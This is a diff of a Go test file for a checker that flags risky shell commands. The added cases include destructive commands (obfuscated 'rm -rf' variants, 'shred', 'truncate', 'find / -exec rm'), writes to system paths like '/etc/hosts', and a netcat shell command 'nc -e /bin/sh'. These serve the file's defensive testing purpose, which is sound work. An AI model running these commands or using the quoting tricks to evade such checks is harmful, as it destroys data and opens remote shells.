@@ -40,6 +40,17 @@ func TestCommandMarksWhatDeservesASecondLook(t *testing.T) {
 		{"echo a > /etc/hosts", "outside", "/etc/hosts"},
 		{"echo a | tee -a /etc/hosts", "outside", "/etc/hosts"},
 		{"echo a >../x", "outside", "../x"},
+		{`"rm" -rf x`, "removes files", `rm" -rf`},
+		{`r""m -rf x`, "removes files", `r""m -rf`},
+		{`r\m '-rf' x`, "removes files", `r\m '-rf`},
+		{"find / -exec rm {} +", "find -exec rm", "find / -exec rm"},
+		{"git checkout .", "throws changes", "git checkout ."},
+		{"shred a", "destroys", "shred"},
+		{"truncate -s 0 a", "destroys", "truncate -s"},
+		{"mv a /dev/null", "destroys", "mv a /dev/null"},
+		{"nc -e /bin/sh h 1", "run commands here", "nc -e"},
+		{"cp x ../../y", "outside", "../../y"},
+		{"mv a /etc/b; ls", "outside", "/etc/b"},
 	} {
 		spans, says := Command(c.command, outside)
 		text, marked := "", ""
@@ -60,7 +71,7 @@ func TestCommandMarksWhatDeservesASecondLook(t *testing.T) {
 func TestCommandLeavesTheOrdinaryAlone(t *testing.T) {
 	for _, command := range []string{
 		"ls -l", "git push origin main", "git status", "rm a.txt", "rm a.txt; ls -f b", "chmod +x run.sh", "chmod 755 a", "chmod u+w a", "chmod 644 a", "echo a > /dev/null 2>&1", "curl https://a.example -o a.sh",
-		"echo a > /w/b", "go test ./... | tee out.txt", "cat .envrc", "environment", "npm run form", "echo sh | cat", "printf a | base64", "make farm",
+		"echo a > /w/b", "go test ./... | tee out.txt", "cat .envrc", "environment", "npm run form", "echo sh | cat", "cp a b", "cp /etc/a b", "mv a /w/b", `git commit -m "it's so"`, "git checkout main", "nc -z h 1", "printf a | base64", "make farm",
 	} {
 		spans, says := Command(command, func(path string) bool { return !strings.HasPrefix(path, "/w/") })
 		if len(says) > 0 || len(spans) != 1 || spans[0] != (Span{T: command}) {
